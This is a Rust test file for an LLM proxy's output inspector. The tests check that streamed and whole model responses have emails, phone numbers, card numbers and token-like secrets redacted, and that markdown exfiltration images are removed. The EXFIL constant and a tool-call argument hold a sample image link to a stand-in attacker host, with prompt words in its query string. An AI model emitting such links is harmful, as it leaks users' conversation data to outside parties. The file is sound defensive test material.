use std::sync::Arc;

use bytes::BytesMut;
use halberd_guard::links::{LinkGuard, LinkPolicy};
use halberd_guard::sensitive::{Policy, Pseudonyms};
use halberd_protocol::Api;
use halberd_protocol::sse::{SseDecoder, SseEvent};
use serde_json::{Value, json};

use super::{OutputError, OutputInspector};

/// Link checks off: the tests above the link tests are about sensitive data.
fn no_links() -> LinkGuard {
    LinkGuard::new(Arc::new(LinkPolicy::off()), [])
}

fn inspector() -> OutputInspector {
    OutputInspector::new(
        Arc::new(Policy::redact_all()),
        Pseudonyms::default(),
        no_links(),
    )
}

/// Runs raw SSE text through the inspector; returns the client's events.
fn run(inspector: &mut OutputInspector, api: Api, raw: &str) -> Result<Vec<SseEvent>, OutputError> {
    let mut decoder = SseDecoder::new(1 << 20);
    let mut events = Vec::new();
    decoder.push(raw.as_bytes(), &mut events).unwrap();
    let mut out = BytesMut::new();
    for ev in &events {
        inspector.event(api, ev, &mut out)?;
    }
    inspector.finish(api, &mut out)?;
    let mut client = Vec::new();
    let mut decoder = SseDecoder::new(1 << 20);
    decoder.push(&out, &mut client).unwrap();
    Ok(client)
}

fn anthropic(event: &str, data: Value) -> String {
    format!("event: {event}\ndata: {data}\n\n")
}

#[test]
fn anthropic_thinking_is_redacted_across_deltas_and_signatures_are_untouched() {
    let signature = "EqQBCgIYAhIM1gbcDa9GJwZA2b3hGgxBdjrkzLoky3dl1pkiMOYds";
    let mut raw = anthropic(
        "content_block_start",
        json!({"type": "content_block_start", "index": 0, "content_block": {"type": "thinking", "thinking": ""}}),
    );
    for piece in ["The user is jane.d", "oe@exam", "ple.com, so"] {
        raw += &anthropic(
            "content_block_delta",
            json!({"type": "content_block_delta", "index": 0, "delta": {"type": "thinking_delta", "thinking": piece}}),
        );
    }
    raw += &anthropic(
        "content_block_delta",
        json!({"type": "content_block_delta", "index": 0, "delta": {"type": "signature_delta", "signature": signature}}),
    );
    raw += &anthropic(
        "content_block_stop",
        json!({"type": "content_block_stop", "index": 0}),
    );
    let events = run(&mut inspector(), Api::Messages, &raw).unwrap();
    let mut thinking = String::new();
    let mut signatures = Vec::new();
    let mut kinds = Vec::new();
    for ev in &events {
        let v: Value = serde_json::from_str(ev.data.as_deref().unwrap()).unwrap();
        kinds.push(v["type"].as_str().unwrap().to_owned());
        assert_eq!(
            ev.event.as_deref(),
            v["type"].as_str(),
            "event names are kept"
        );
        thinking += v["delta"]["thinking"].as_str().unwrap_or_default();
        if let Some(s) = v["delta"]["signature"].as_str() {
            signatures.push(s.to_owned());
        }
    }
    assert_eq!(thinking, "The user is [EMAIL], so");
    assert_eq!(signatures, [signature]);
    assert_eq!(
        kinds.last().map(String::as_str),
        Some("content_block_stop"),
        "held text is released before the stop"
    );
}

#[test]
fn event_ids_and_untouched_events_pass_byte_for_byte() {
    let raw = "id: 7\nevent: ping\ndata: {\"type\": \"ping\"}\n\n: keep-alive comment\n\n";
    let events = run(&mut inspector(), Api::Messages, raw).unwrap();
    assert_eq!(events.len(), 2);
    assert_eq!(
        &events[0].raw[..],
        b"id: 7\nevent: ping\ndata: {\"type\": \"ping\"}\n\n"
    );
    let raw = "id: 42\ndata: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"mail a@example.com now\"}}]}\n\n";
    let events = run(&mut inspector(), Api::ChatCompletions, raw).unwrap();
    assert_eq!(
        events[0].id.as_deref(),
        Some("42"),
        "a rewritten event keeps its id"
    );
    assert!(
        events
            .iter()
            .all(|e| !String::from_utf8_lossy(&e.raw).contains("a@example.com"))
    );
}

#[test]
fn chat_held_text_is_released_with_the_finish_reason() {
    let raw = "data: {\"id\":\"c1\",\"choices\":[{\"index\":0,\"delta\":{\"content\":\"call +44 20 \"},\"finish_reason\":null}]}\n\n\
               data: {\"id\":\"c1\",\"choices\":[{\"index\":0,\"delta\":{\"content\":\"7946 0958\"},\"finish_reason\":null}]}\n\n\
               data: {\"id\":\"c1\",\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\n\
               data: [DONE]\n\n";
    let events = run(&mut inspector(), Api::ChatCompletions, raw).unwrap();
    let datas: Vec<&str> = events.iter().filter_map(|e| e.data.as_deref()).collect();
    assert_eq!(datas.len(), 4, "no event is added or dropped: {datas:?}");
    let text: String = datas
        .iter()
        .filter_map(|d| serde_json::from_str::<Value>(d).ok())
        .filter_map(|v| {
            v["choices"][0]["delta"]["content"]
                .as_str()
                .map(str::to_owned)
        })
        .collect();
    assert_eq!(text, "call [PHONE]");
    let last: Value = serde_json::from_str(datas[2]).unwrap();
    assert_eq!(last["choices"][0]["finish_reason"], "stop");
    assert_eq!(datas[3], "[DONE]");
}

#[test]
fn a_flag_only_policy_holds_nothing_back_and_still_counts_split_values() {
    let policy = Policy::uniform(halberd_guard::sensitive::Action::Flag);
    let mut inspector = OutputInspector::new(Arc::new(policy), Pseudonyms::default(), no_links());
    let pieces = ["Cert", "ainly, call +44 20 ", "7946 0958", " today"];
    let mut raw = String::new();
    for piece in pieces {
        raw += &format!(
            "data: {}\n\n",
            json!({"id": "c1", "choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": null}]})
        );
    }
    raw += "data: [DONE]\n\n";
    let events = run(&mut inspector, Api::ChatCompletions, &raw).unwrap();
    let deltas: Vec<String> = events
        .iter()
        .filter_map(|e| serde_json::from_str::<Value>(e.data.as_deref()?).ok())
        .filter_map(|v| {
            v["choices"][0]["delta"]["content"]
                .as_str()
                .map(str::to_owned)
        })
        .collect();
    // Each event carries its own text, the first word included: nothing waits.
    assert_eq!(deltas, pieces);
    assert_eq!(
        inspector.counts.get("phone"),
        Some(&1),
        "{:?}",
        inspector.counts
    );
}

#[test]
fn an_event_that_cannot_be_parsed_ends_the_stream() {
    let raw = "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"hi\"}}]}\n\ndata: not json jane@example.com\n\n";
    assert_eq!(
        run(&mut inspector(), Api::ChatCompletions, raw).unwrap_err(),
        OutputError::Uninspectable
    );
}

#[test]
fn whole_responses_redact_every_text_but_not_identifiers() {
    let mut body = json!({
        "id": "msg_jane@example.com",
        "type": "message",
        "content": [
            {"type": "text", "text": "Reach jane@example.com"},
            {"type": "tool_use", "id": "t1", "name": "send", "input": {"to": "jane@example.com", "n": 3}},
            {"type": "thinking", "thinking": "AKIAUJZDEGXDNCF32EPF", "signature": "AKIAUJZDEGXDNCF32EPF"}
        ],
        "future_field": {"nested": ["4111 1111 1111 1111"]}
    });
    inspector().whole(&mut body).unwrap();
    assert_eq!(body["id"], "msg_jane@example.com");
    assert_eq!(body["content"][0]["text"], "Reach [EMAIL]");
    assert_eq!(body["content"][1]["input"]["to"], "[EMAIL]");
    assert_eq!(body["content"][1]["input"]["n"], 3);
    assert_eq!(body["content"][2]["thinking"], "[SECRET:aws_access_key_id]");
    assert_eq!(body["content"][2]["signature"], "AKIAUJZDEGXDNCF32EPF");
    assert_eq!(body["future_field"]["nested"][0], "[CREDIT_CARD]");
}

#[test]
fn identifiers_are_skipped_only_where_the_provider_puts_them() {
    let mut body = json!({
        "id": "msg_1",
        "content": [
            {"type": "tool_use", "id": "toolu_1", "name": "send", "input": {
                "data": "4111 1111 1111 1111",
                "id": "AKIAUJZDEGXDNCF32EPF",
                "name": "jane@example.com",
                "nested": {"type": "ann@example.org"}
            }}
        ],
        "choices": [{"message": {"tool_calls": [{"id": "call_1", "type": "function",
            "function": {"name": "f", "arguments": "{\"id\": \"jane@example.com\"}"}}]}}]
    });
    inspector().whole(&mut body).unwrap();
    let input = &body["content"][0]["input"];
    assert_eq!(input["data"], "[CREDIT_CARD]");
    assert_eq!(input["id"], "[SECRET:aws_access_key_id]");
    assert_eq!(input["name"], "[EMAIL]");
    assert_eq!(input["nested"]["type"], "[EMAIL]");
    // The provider's own identifiers stay.
    assert_eq!(body["content"][0]["id"], "toolu_1");
    assert_eq!(body["content"][0]["name"], "send");
    assert_eq!(
        body["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"],
        "{\"id\": \"[EMAIL]\"}"
    );
}

#[test]
fn log_probabilities_never_spell_what_was_redacted() {
    // Whole: the text was edited, so its token log probabilities go.
    let tokens = ["My card is ", "4111", " 1111", " 1111", " 1111", "."];
    let logprobs: Vec<Value> = tokens
        .iter()
        .map(|t| json!({"token": t, "logprob": -0.1, "bytes": t.as_bytes(), "top_logprobs": []}))
        .collect();
    let mut body = json!({"choices": [
        {"index": 0, "message": {"role": "assistant", "content": tokens.concat()}, "logprobs": {"content": logprobs.clone()}},
        {"index": 1, "message": {"role": "assistant", "content": "nothing here"}, "logprobs": {"content": [{"token": "nothing", "logprob": -0.2, "bytes": [110], "top_logprobs": []}]}}
    ]});
    inspector().whole(&mut body).unwrap();
    assert_eq!(
        body["choices"][0]["message"]["content"],
        "My card is [CREDIT_CARD]."
    );
    assert!(body["choices"][0]["logprobs"].is_null());
    assert!(
        !body["choices"][1]["logprobs"].is_null(),
        "a choice whose text was not edited keeps them"
    );
    // Streamed: log probabilities are not relayed while output is inspected.
    let mut raw = String::new();
    for (t, lp) in tokens.iter().zip(&logprobs) {
        raw.push_str(&format!(
            "data: {}\n\n",
            json!({"id": "c", "choices": [{"index": 0, "delta": {"content": t}, "logprobs": {"content": [lp]}, "finish_reason": null}]})
        ));
    }
    raw.push_str("data: [DONE]\n\n");
    let events = run(&mut inspector(), Api::ChatCompletions, &raw).unwrap();
    let all: String = events.iter().filter_map(|e| e.data.clone()).collect();
    assert!(!all.contains("4111"), "{all}");
}

#[test]
fn text_deltas_of_events_not_modelled_are_redacted_across_events() {
    // Responses: a custom tool's input split across two deltas.
    let ev = |ty: &str, v: Value| format!("event: {ty}\ndata: {v}\n\n");
    let raw = [
        ev("response.custom_tool_call_input.delta", json!({"type": "response.custom_tool_call_input.delta", "item_id": "ct_1", "output_index": 0, "delta": "pay with 4111 1111"})),
        ev("response.custom_tool_call_input.delta", json!({"type": "response.custom_tool_call_input.delta", "item_id": "ct_1", "output_index": 0, "delta": " 1111 1111 now"})),
        ev("response.custom_tool_call_input.done", json!({"type": "response.custom_tool_call_input.done", "item_id": "ct_1", "output_index": 0, "input": "pay with 4111 1111 1111 1111 now"})),
    ]
    .concat();
    let events = run(&mut inspector(), Api::Responses, &raw).unwrap();
    let all: String = events.iter().filter_map(|e| e.data.clone()).collect();
    assert!(!all.contains("4111"), "{all}");
    let streamed: String = events
        .iter()
        .filter_map(|e| serde_json::from_str::<Value>(e.data.as_deref()?).ok())
        .filter(|v| v["type"] == "response.custom_tool_call_input.delta")
        .filter_map(|v| v["delta"].as_str().map(str::to_owned))
        .collect();
    assert_eq!(streamed, "pay with [CREDIT_CARD] now");

    // Chat: the legacy function_call arguments, split.
    let raw = [
        "data: {\"id\":\"c\",\"choices\":[{\"index\":0,\"delta\":{\"function_call\":{\"name\":\"f\",\"arguments\":\"{\\\"to\\\": \\\"jane@exa\"}},\"finish_reason\":null}]}\n\n",
        "data: {\"id\":\"c\",\"choices\":[{\"index\":0,\"delta\":{\"function_call\":{\"arguments\":\"mple.com\\\"}\"}},\"finish_reason\":null}]}\n\n",
        "data: {\"id\":\"c\",\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"function_call\"}]}\n\n",
        "data: [DONE]\n\n",
    ]
    .concat();
    let events = run(&mut inspector(), Api::ChatCompletions, &raw).unwrap();
    let args: String = events
        .iter()
        .filter_map(|e| serde_json::from_str::<Value>(e.data.as_deref()?).ok())
        .filter_map(|v| {
            v["choices"][0]["delta"]["function_call"]["arguments"]
                .as_str()
                .map(str::to_owned)
        })
        .collect();
    assert_eq!(args, "{\"to\": \"[EMAIL]\"}");

    // Anthropic: a delta type this code does not know, with one text field.
    let raw = [
        anthropic("content_block_delta", json!({"type": "content_block_delta", "index": 0, "delta": {"type": "future_delta", "body": "token ghp_VZomHFwUbbYr"}})),
        anthropic("content_block_delta", json!({"type": "content_block_delta", "index": 0, "delta": {"type": "future_delta", "body": "EqmSM9wCZ7Uw9xfogoEmvnEN ok"}})),
        anthropic("content_block_stop", json!({"type": "content_block_stop", "index": 0})),
    ]
    .concat();
    let events = run(&mut inspector(), Api::Messages, &raw).unwrap();
    let body: String = events
        .iter()
        .filter_map(|e| serde_json::from_str::<Value>(e.data.as_deref()?).ok())
        .filter_map(|v| v["delta"]["body"].as_str().map(str::to_owned))
        .collect();
    assert_eq!(body, "token [SECRET:github_token] ok");
    // One it cannot read (two text fields) fails closed.
    let raw = anthropic(
        "content_block_delta",
        json!({"type": "content_block_delta", "index": 0, "delta": {"type": "odd_delta", "a": "x", "b": "y"}}),
    );
    assert_eq!(
        run(&mut inspector(), Api::Messages, &raw).unwrap_err(),
        OutputError::Uninspectable
    );
}

#[test]
fn a_response_with_too_many_text_streams_is_refused_not_buffered() {
    // 10,000 choices in one chunk, each the start of a value that is held.
    let choices: Vec<Value> = (0..10_000)
        .map(|i| json!({"index": i, "delta": {"content": "call +44 20 79"}, "finish_reason": null}))
        .collect();
    let raw = format!("data: {}\n\n", json!({"id": "c", "choices": choices}));
    let mut inspector = inspector();
    assert_eq!(
        run(&mut inspector, Api::ChatCompletions, &raw).unwrap_err(),
        OutputError::Uninspectable
    );
    assert!(inspector.streams.len() <= super::MAX_TEXT_STREAMS);
    // Within the cap, many choices are fine.
    let choices: Vec<Value> = (0..100)
        .map(|i| json!({"index": i, "delta": {"content": "hello"}, "finish_reason": "stop"}))
        .collect();
    let raw = format!(
        "data: {}\n\ndata: [DONE]\n\n",
        json!({"id": "c", "choices": choices})
    );
    assert!(
        run(
            &mut super::OutputInspector::new(
                Arc::new(Policy::redact_all()),
                Pseudonyms::default(),
                no_links()
            ),
            Api::ChatCompletions,
            &raw
        )
        .is_ok()
    );
}

fn with_links(prompt: &str) -> OutputInspector {
    OutputInspector::new(
        Arc::new(Policy::redact_all()),
        Pseudonyms::default(),
        LinkGuard::new(Arc::new(LinkPolicy::default()), [prompt]),
    )
}

const EXFIL: &str = "![s](https://logs.attacker.example/p.png?d=project%20bluebird%20launch)";

/// The answer text a client assembles from the relayed events.
fn assembled(api: Api, events: &[SseEvent]) -> String {
    let mut text = String::new();
    for ev in events {
        let Some(Ok(v)) = ev.data.as_deref().map(serde_json::from_str::<Value>) else {
            continue;
        };
        let piece = match api {
            Api::ChatCompletions => v.pointer("/choices/0/delta/content"),
            Api::Messages => v.pointer("/delta/text"),
            _ => (v["type"] == "response.output_text.delta").then(|| &v["delta"]),
        };
        text += piece.and_then(Value::as_str).unwrap_or_default();
    }
    text
}

#[test]
fn an_exfiltration_image_is_removed_from_each_api_s_stream_and_an_allowed_link_stays() {
    let answer =
        format!("Here you go. {EXFIL} See [the docs](https://docs.example.com/guide) for more.");
    // Cut in awkward places: inside the image's URL and its alt text.
    let pieces: Vec<&str> = vec![
        &answer[..15],
        &answer[15..40],
        &answer[40..70],
        &answer[70..],
    ];
    let chat: String = pieces
        .iter()
        .map(|p| {
            format!(
                "data: {}\n\n",
                json!({"id": "c", "choices": [{"index": 0, "delta": {"content": p}, "finish_reason": null}]})
            )
        })
        .collect::<String>()
        + &format!(
            "data: {}\n\ndata: [DONE]\n\n",
            json!({"id": "c", "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
        );
    let messages: String = pieces
        .iter()
        .map(|p| {
            anthropic(
                "content_block_delta",
                json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": p}}),
            )
        })
        .collect::<String>()
        + &anthropic("content_block_stop", json!({"type": "content_block_stop", "index": 0}));
    let responses: String = pieces
        .iter()
        .map(|p| {
            format!(
                "event: response.output_text.delta\ndata: {}\n\n",
                json!({"type": "response.output_text.delta", "item_id": "m", "content_index": 0, "delta": p})
            )
        })
        .collect::<String>()
        + &format!(
            "event: response.output_text.done\ndata: {}\n\n",
            json!({"type": "response.output_text.done", "item_id": "m", "content_index": 0, "text": answer})
        );
    let expected =
        "Here you go. [image removed] See [the docs](https://docs.example.com/guide) for more.";
    for (api, raw) in [
        (Api::ChatCompletions, chat),
        (Api::Messages, messages),
        (Api::Responses, responses),
    ] {
        let mut inspector = with_links("Tell me about Project Bluebird");
        let events = run(&mut inspector, api, &raw).unwrap();
        assert_eq!(assembled(api, &events), expected, "{api:?}");
        // Counted once, though Responses repeats the text in its done event.
        assert_eq!(inspector.link_edits.len(), 1, "{api:?}");
        if api == Api::Responses {
            // The done event's whole text agrees with the deltas.
            let done: Value =
                serde_json::from_str(events.last().unwrap().data.as_deref().unwrap()).unwrap();
            assert_eq!(done["text"], expected);
        }
    }
}

#[test]
fn whole_answers_lose_the_image_but_tool_arguments_keep_their_urls() {
    let mut body = json!({
        "choices": [{"index": 0, "message": {
            "role": "assistant",
            "content": format!("Done. {EXFIL}"),
            "tool_calls": [{"id": "t", "type": "function", "function": {
                "name": "fetch",
                "arguments": json!({"url": "https://logs.attacker.example/p.png?d=project%20bluebird%20launch"}).to_string()
            }}]
        }}]
    });
    let mut inspector = with_links("Tell me about Project Bluebird");
    inspector.whole(&mut body).unwrap();
    assert_eq!(
        body["choices"][0]["message"]["content"],
        "Done. [image removed]"
    );
    assert!(
        body["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
            .as_str()
            .unwrap()
            .contains("logs.attacker.example")
    );
    assert_eq!(inspector.link_edits.len(), 1);
    // Anthropic content blocks too.
    let mut body = json!({"content": [{"type": "text", "text": format!("Done. {EXFIL}")}]});
    with_links("").whole(&mut body).unwrap();
    assert_eq!(body["content"][0]["text"], "Done. [image removed]");
}

#[test]
fn a_blocking_link_policy_ends_the_stream() {
    let mut inspector = OutputInspector::new(
        Arc::new(Policy::redact_all()),
        Pseudonyms::default(),
        LinkGuard::new(
            Arc::new(
                LinkPolicy::new(
                    &[],
                    halberd_guard::links::Action::Block,
                    halberd_guard::links::Action::Flag,
                    halberd_guard::links::Action::Off,
                )
                .unwrap(),
            ),
            [""],
        ),
    );
    let raw = format!(
        "data: {}\n\n",
        json!({"id": "c", "choices": [{"index": 0, "delta": {"content": EXFIL}, "finish_reason": "stop"}]})
    );
    match run(&mut inspector, Api::ChatCompletions, &raw) {
        Err(OutputError::Link(edit)) => assert_eq!(edit.to_string(), "image:sentence"),
        other => panic!("{other:?}"),
    }
}
